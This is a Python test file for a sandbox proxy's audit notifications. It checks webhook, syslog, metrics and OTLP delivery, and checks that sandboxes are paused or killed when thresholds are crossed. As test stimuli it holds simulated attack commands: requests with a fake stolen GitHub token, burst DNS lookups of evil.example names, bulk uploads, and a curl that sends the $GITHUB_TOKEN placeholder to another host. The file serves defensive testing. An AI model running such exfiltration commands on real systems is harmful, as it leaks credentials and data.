#!/usr/bin/python3 -B
"""audit.notify: thresholds that the log reaches are told by webhook (verified TLS, tried again),
command and syslog, recorded, counted, and pause or end the sandbox; anchor.https."""
import glob
import json
import os
import shutil
import signal
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import api, durward, nginx, peer, scene, shapes, tap  # noqa: E402

KEEP = """#!/bin/sh
env > "$1.env"
cat >> "$1"
[ ! -e "$1.fail" ] || { rm "$1.fail"; exit 1; }
[ -e "$1.hold" ] || exit 0
role() { for p in $(cat /proc/$PPID/task/$PPID/children); do tr '\\0' ' ' < /proc/$p/cmdline | grep -q "^durward: $1" && echo $p; done; }
kill -STOP $(role signer)
> "$1.held"
while [ -n "$(role controller)" ]; do sleep 0.05; done
"""


class Syslog:
    """Debian's rsyslog behind a socket of ours: what it understood, a line each of priority, program, text."""

    CONF = """module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="%(socket)s" CreatePath="on")
template(name="seen" type="string" string="%%pri-text%%\\t%%programname%%\\t%%msg%%\\n")
*.* action(type="omfile" file="%(out)s" template="seen" fileCreateMode="0644")
"""

    def __init__(self, t):
        self.socket, self.out, conf = t.path("syslog.sock"), t.path("syslog.out"), t.path("rsyslog.conf")
        with open(conf, "w") as f:
            f.write(self.CONF % {"socket": self.socket, "out": self.out})
        self.process = subprocess.Popen(["rsyslogd", "-n", "-f", conf, "-i", t.path("rsyslog.pid")], stdin=subprocess.DEVNULL,
                                        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, preexec_fn=tap.die_with_parent)
        t.cleanup(self.end)
        tap.wait_for(lambda: os.path.exists(self.socket), 10, 0.05)

    def text(self):
        return open(self.out).read() if os.path.exists(self.out) else "nothing"

    def lines(self, word):
        """Of those that begin with this word: priority, program and what follows it."""
        found = [x.split("\t", 2) for x in self.text().splitlines() if x.count("\t") >= 2]
        return [(p, n, m.strip()[len(word) + 1:]) for p, n, m in found if m.strip().startswith(word + " ")]

    def end(self):
        self.process.terminate()
        self.process.wait(10)


class Hook:
    """What a webhook takes: fails as often as it is told."""

    def __init__(self):
        self.fail, self.got = 0, []

    def __call__(self, request, conn):
        if self.fail:
            self.fail -= 1
            conn.reply(request, 503)
            return
        self.got.append((request, json.loads(request.body)))
        conn.reply(request, 204)


def metric(d, address, name):
    import urllib.request
    text = urllib.request.urlopen("http://%s/metrics" % address, timeout=5).read().decode()
    return sum(float(x.split()[-1]) for x in text.splitlines()
               if x.startswith(name + "{") or x.startswith(name + " "))


def events(d, event, n=1, seconds=8):
    return tap.wait_for(lambda: (lambda g: g if len(g) >= n else None)(
        d.records(kind="lifecycle", event=event)), seconds, 0.05) or \
        d.records(kind="lifecycle", event=event)


def hook_has(hook, n, seconds=8):
    tap.wait_for(lambda: len(hook.got) >= n, seconds, 0.05)
    return [x for _, x in hook.got]


def setup(t):
    s = scene.Scene(t)
    hook, keeper = Hook(), Hook()
    s.receiver = Hook()
    s.receiver.fail = 1
    s.d.extra["tracing"] = {"otlp": "https://otlp.example.com/in"}
    for name, handler in (("hooks.example.com", hook), ("anchor.example.com", keeper),
                          ("otlp.example.com", s.receiver)):
        s.add(name, handler)
    s.add("mirror.example.com", shapes.echo)
    s.rule(allow="mirror.example.com", **{"with": {"bearer": "github"}})
    out = os.path.join(s.d.dir, "kept")
    keep = os.path.join(s.d.dir, "conf", "keep")
    with open(keep, "w") as f:
        f.write(KEEP)
    os.chmod(keep, 0o700)
    s.d.audit.update({
        "rotate": {"compress": "none"},
        "anchor": {"https": "https://anchor.example.com/checkpoints"},
        "notify": {"webhook": {"url": "https://hooks.example.com/in?key=abc"}, "command": [keep, out],
                   "when": [{"foreign_credentials": 2, "within": "1h"},
                            {"bytes_up": "100KB", "within": "10m"},
                            {"hosts": 2, "within": "10m"},
                            {"names_refused": 8, "within": "1m", "then": "pause"},
                            {"misplaced": 1, "within": "1m", "then": "kill"},
                            {"reflected": 1, "within": "1h", "then": "kill"},
                            {"denied": 3, "within": "1m", "then": "kill"}]}})
    s.syslog = Syslog(t) if shutil.which("rsyslogd", path=os.environ["PATH"] + ":/usr/sbin") else None
    if s.syslog:
        s.d.audit["notify"]["syslog"] = s.d.audit["anchor"]["syslog"] = s.syslog.socket
    else:
        t.skip("what syslog is told", "rsyslogd is not installed")
    s.metrics = "127.0.0.1:%d" % nginx.free_port()
    s.d.listen.append({"metrics": s.metrics})
    return s, hook, keeper, out


def listener(t, s, hook, out):
    """Whoever comes by a listener is a policy, and there is nothing to pause."""
    gate = s.gate(s.address)
    hook.fail = 1
    for _ in range(2):
        gate.get("api.github.com", "/user", headers="Authorization: Bearer ghp_stolen\r\n")
    told = hook_has(hook, 1)
    t.eq([(x["measure"], x["value"], x["limit"], x["policy"], x["sandbox"], x["then"])
          for x in told], [("foreign_credentials", 2, 2, "coder", "", "notify")],
         "two foreign credentials are told once, though the first try failed")
    request = hook.got[0][0] if hook.got else None
    t.ok(request and request.tls and request.method == "POST" and request.query == "key=abc" and
         request.get("content-type") == "application/json", "by POST, in TLS", str(request))
    it = events(s.d, "threshold")
    t.eq([(x["code"], x["count"], x["policy"]) for x in it], [("foreign_credentials", 2, "coder")],
         "the log says so")
    ids = {x["id"]: x for x in s.d.kinds("denied")}
    t.ok(it and it[0]["request"] in ids and told and told[0]["record"] == it[0]["seq"] and
         told[0]["request"] == it[0]["request"], "and which request it was", str(it), str(told))
    sinks = 3 if s.syslog else 2
    t.eq(len(events(s.d, "notified", sinks)), sinks, "each delivery is recorded")
    with open(out) as f:
        text = f.read()
    t.eq(json.loads(text), told and told[0], "the command has the same on stdin")
    t.eq((text.count("\n"), text[-1:]), (1, "\n"), "as a line")
    if s.syslog:
        lines = tap.wait_for(lambda: s.syslog.lines("notice"), 8, 0.1) or []
        t.eq([(x[0], x[1], json.loads(x[2])) for x in lines], [("authpriv.notice", "durward", told and told[0])],
             "and so has rsyslog, by its own reading authpriv.notice of durward") or t.diag(s.syslog.text())
    with open(out + ".env") as f:
        names = {x.split("=")[0] for x in f}
    t.ok("XDG_DATA_HOME" not in names and "PATH" in names, "and a clean environment", str(names))
    gate.get("deps.example.com", "/up", method="POST", body=b"x" * 60000)
    t.eq([x["measure"] for x in hook_has(hook, 2)], ["foreign_credentials", "hosts"],
         "a second host is told")
    gate.get("deps.example.com", "/up", method="POST", body=b"x" * 60000)
    told = hook_has(hook, 3)
    t.eq([(x["measure"], x["value"]) for x in told[2:]], [("bytes_up", 120000)], "bytes are told")
    for _ in range(6):
        gate.get("api.github.com", "/user", headers="Authorization: Bearer ghp_stolen\r\n")
    s.d.settle()
    t.eq([x["measure"] for x in hook_has(hook, 3)].count("foreign_credentials"), 1,
         "the same again is not told within its time")
    t.ok(tap.wait_for(lambda: metric(s.d, s.metrics, "durward_deliveries_total") >= 6, 5, 0.1) and
         metric(s.d, s.metrics, "durward_delivery_retries_total") >= 1 and
         metric(s.d, s.metrics, "durward_notices_total") >= 3, "/metrics counts them")


def start(s, box, code):
    """A command whose end nobody awaits: the sandbox may stand still before."""
    k = api.Api(s.d.socket, timeout=2)
    try:
        k.sh(box, code)
    except (OSError, api.Refused):
        pass
    k.close()


def sandboxes(t, s, hook):
    c = api.Api(s.d.socket)
    try:
        box = c.create(policy="coder")["id"]
    except api.Refused as e:
        t.skip("what becomes of a sandbox", "no sandbox can be made here: %s" % e)
        return
    code = "for i in 1 2 3 4 5 6 7 8 9; do getent hosts d$i.evil.example; done; sleep 1"
    start(s, box, code)
    state = tap.wait_for(lambda: events(s.d, "sandbox_paused") or events(s.d, "killed", 1, 1), 10, 0.1)
    paused = s.d.records(kind="lifecycle", event="sandbox_paused")
    why = events(s.d, "threshold_pause")
    t.ok(state and why and why[0]["target"] == box and "names_refused" in why[0]["detail"],
         "names asked for in a burst: it is %s" % ("paused" if paused else "ended (no freezer)"),
         str(state), str(why))
    t.ok(tap.wait_for(lambda: [x for _, x in hook.got if x["sandbox"] == box and
                               x["then"] == "pause"], 8, 0.1), "and that is told")
    if paused:
        k = api.Api(s.d.socket, timeout=3)
        try:
            woke = k.sh(box, "true")
        except api.Refused as e:
            woke = None
            t.diag(str(e))
        t.ok(woke is None, "a request does not wake what a threshold paused")
        k.close()
        c.delete(box)
    box = c.create(policy="coder")["id"]
    r = s.d.command("sandbox", "exec", "--socket", s.d.socket, box, "--", "sh", "-c",
                    "for i in 1 2 3 4; do curl -s -o /dev/null https://api.github.com/gists; done; sleep 20")
    t.ok(r.returncode == 125 and "the sandbox ended: threshold: denied" in r.stderr, "a command that it ends is told why",
         str(r.returncode), r.stderr)
    t.ok(tap.wait_for(lambda: [x for x in s.d.records(kind="lifecycle", event="killed")
                               if x["target"] == box], 10, 0.1), "a third denial ends it")
    t.ok(tap.wait_for(lambda: [x for _, x in hook.got if x["sandbox"] == box and
                               x["then"] == "kill"], 8, 0.1), "and that is told")
    box = c.create(policy="coder")["id"]
    start(s, box, "curl -s -o /dev/null -H \"X-A: $GITHUB_TOKEN\" https://deps.example.com/; sleep 5")
    t.ok(tap.wait_for(lambda: [x for x in s.d.records(kind="lifecycle", event="killed")
                               if x["target"] == box], 10, 0.1), "C7 its placeholder sent elsewhere ends it")
    box = c.create(policy="coder")["id"]
    start(s, box, "curl -s -o /dev/null https://mirror.example.com/; sleep 5")
    t.ok(tap.wait_for(lambda: [x for x in s.d.records(kind="lifecycle", event="killed")
                               if x["target"] == box], 10, 0.1),
         "what the injector records of a credentialed request counts for its sandbox: a secret that came back ends it")
    c.close()


def exporter_dies(t, s, hook):
    """Delivery goes on after the exporter's death; an unverified endpoint gets nothing."""
    pid = [p for p, r in s.d.roles() if r == "exporter"]
    t.eq(len(pid), 1, "one exporter runs")
    os.kill(pid[0], signal.SIGKILL)
    before = len(hook.got)
    gate = s.gate(s.other)
    for _ in range(2):
        gate.get("api.github.com", "/user", headers="Authorization: Bearer ghp_stolen\r\n")
    t.ok(tap.wait_for(lambda: [x for _, x in hook.got[before:] if x["policy"] == "quiet"], 10, 0.1),
         "a notice made while the exporter is dead arrives", s.d.diagnostics())


def parsed(t, s):
    """All that the receiver took, read by opentelemetry-proto; None: it is not here."""
    python = os.path.join(durward.clients_dir(), "venv/bin/python")
    lines = "".join(json.dumps({"path": r.path, "body": r.body.decode()}) + "\n"
                    for r, _ in s.receiver.got)
    r = subprocess.run([python, peer.path("otlp_parse.py")], input=lines.encode(), timeout=60,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if b"No module named" in r.stderr:
        return None
    t.ok(r.returncode == 0, "OTLP: the project's own messages take every batch", r.stderr.decode())
    return [json.loads(x) for x in r.stdout.decode().splitlines()]


def exported(t, s):
    """OTLP: every record of the log is a log record there, every end a span with its steps."""
    records = [x for x in s.d.records() if x["kind"] != "checkpoint" and x["seq"] > s.from_seq]

    def all_there():
        return sum(r.body.count(b'"eventName"') for r, _ in s.receiver.got) >= len(records)
    tap.wait_for(all_there, 10, 0.2)
    t.eq({r.path for r, _ in s.receiver.got}, {"/in/v1/logs", "/in/v1/traces"}, "OTLP: both ways")
    items = parsed(t, s)
    if items is None:
        t.skip("OTLP", "opentelemetry-proto is not among the clients")
        return
    logs = {x["attributes"]["durward.seq"]: x for x in items if x["what"] == "log"}
    missing = [x["seq"] for x in records if str(x["seq"]) not in {str(k) for k in logs}]
    t.ok(records and not missing, "OTLP: all of %d records, though the first batch was refused" % len(records),
         str(missing[:10]))
    wrong = [x["seq"] for x in records
             for log in [logs.get(x["seq"]) or logs.get(str(x["seq"]))]
             if log and (log["event"] != "durward." + x["kind"] or any(
                 str(log["attributes"].get("durward." + k)) != str(v) for k, v in x.items()))]
    t.ok(not wrong, "OTLP: with all of their fields", str(wrong[:5]))
    spans = [x for x in items if x["what"] == "span"]
    top = {x["attributes"]["durward.id"]: x for x in spans if not x["parent"]}
    ends = [x for x in records if x["kind"] in ("completed", "aborted")]
    t.eq(sorted(top), sorted(x["id"] for x in ends), "OTLP: a span for each request that ended")
    first = [x for x in ends if x.get("dial_ms") is not None and x["id"] in top]
    steps = {x["name"]: x for x in spans if first and x["parent"] == top[first[0]["id"]]["span"]}
    t.eq(sorted(steps), ["dial", "first byte", "queue", "tls"], "OTLP: its steps are spans below it")
    if first:
        span = top[first[0]["id"]]
        t.ok(all(x["trace"] == span["trace"] and span["begin"] <= x["begin"] <= x["end"]
                 for x in steps.values()) and span["end"] - span["begin"] == first[0]["ms"] * 1000000 and
             [x for x in logs.values() if x["trace"] == span["trace"] and x["event"] == "durward.admitted"],
             "OTLP: in one trace with the log records")
        t.eq((span["attributes"]["http.request.method"], span["attributes"]["server.address"],
              span["resource"]["service.name"]), ("POST", "deps.example.com", "durward"),
             "OTLP: with the conventions' names")
        t.ok(first[0].get("tls", "").startswith("TLSv1.") and first[0].get("protocol") == "http/1.1",
             "the record has the handshake's facts", str(first[0]))


def private(t, s, hook, out, keeper):
    """The same of `durward run`, whose end does not cut a notice off."""
    before = len(hook.got)
    r = s.d.run(["sh", "-c", "for i in 1 2 3 4; do curl -s -o /dev/null https://api.github.com/gists;"
                 " done; sleep 20"], flags=["--policy", "coder"])
    if "cannot" in r.stderr and r.returncode == 125 and not s.d.records(event="killed"):
        t.skip("durward run", r.stderr)
        return
    t.eq([x["then"] for _, x in hook.got[before:]], ["kill"], "durward run: told") or \
        t.diag(r.stderr)
    t.eq(r.returncode, 125, "and ended")
    with open(out + ".hold", "w"):  # the command ends while the roles do: one of them is stopped until then
        pass
    run = t.popen([durward.program(), "run", "-c", s.d.conf, "--policy", "coder", "--", "sh", "-c",
                   "for i in 1 2; do curl -s -o /dev/null -H 'Authorization: Bearer ghp_stolen' https://api.github.com/user; done; cat"],
                  cwd=s.d.work, env=s.d.env, stdin=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    t.ok(tap.wait_for(lambda: os.path.exists(out + ".held"), 20, 0.05), "durward run: a command that takes its time")
    kept = len(keeper.got)
    for pid in [pid for pid, role in s.d.roles(run.pid) if role == "parent"]:
        os.kill(pid, signal.SIGHUP)
    names = {"run-" + os.path.basename(x)[4:] for x in glob.glob(os.path.join(s.d.audit_dir, "run-*"))}
    got = tap.wait_for(lambda: [x for _, x in keeper.got[kept:] if x.get("log") in names], 8, 0.1)
    t.ok(got, "a run's checkpoint that goes to the anchor by https has its log's name", str(keeper.got[kept:])[:300], *names)
    os.remove(out + ".hold")
    said = run.communicate(timeout=30)[1]
    t.ok(run.returncode == 0 and "not delivered" not in said, "a command that ended while the roles did has had its notice", said)


def main(t):
    s, hook, keeper, out = setup(t)
    s.d.policy("quiet", s.rules)
    s.address, s.other = s.listener(), s.listener("quiet")
    s.d.serve()
    s.from_seq = max([x["seq"] for x in s.d.records()] or [0])
    listener(t, s, hook, out)
    sandboxes(t, s, hook)
    exported(t, s)
    exporter_dies(t, s, hook)
    s.d.daemon.send_signal(signal.SIGHUP)
    t.ok(tap.wait_for(lambda: keeper.got, 8, 0.1), "a checkpoint goes to the anchor")
    if s.syslog:
        lines = tap.wait_for(lambda: s.syslog.lines("checkpoint"), 8, 0.1) or []
        signed = {x["signature"] for x in s.d.kinds("checkpoint")}
        t.ok(lines and all(json.loads(x[2])["signature"] in signed for x in lines), "and to rsyslog", s.syslog.text())
    if keeper.got:
        line = keeper.got[0][1]
        t.ok([x for x in s.d.kinds("checkpoint") if x["signature"] == line["signature"]],
             "as it stands in the log")
        path = os.path.join(s.d.dir, "anchored")
        with open(path, "wb") as f:
            f.write(b"".join(r.body.strip() + b"\n" for r, _ in keeper.got))
    t.eq(s.d.stop(), 0, "the daemon ends well")
    private(t, s, hook, out, keeper)
    if keeper.got:
        r = s.d.command("audit", "verify", "--anchor", path, s.d.audit_dir)
        t.ok(r.returncode == 0 and "of the anchor found" in r.stdout, "verify finds it",
             r.stdout, r.stderr)
    s.clean()


tap.run(main)
